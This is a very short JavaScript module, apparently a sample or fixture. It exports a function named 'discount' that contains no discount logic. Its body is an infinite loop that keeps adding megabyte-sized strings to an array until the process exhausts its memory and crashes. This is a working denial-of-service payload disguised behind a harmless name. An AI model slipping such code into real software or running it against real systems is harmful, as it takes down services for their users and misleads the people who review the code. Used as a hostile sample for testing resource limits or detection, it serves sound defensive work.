exports.discount = () => {
  const all = []
  for (;;) all.push('x'.repeat(1e6) + all.length)
}
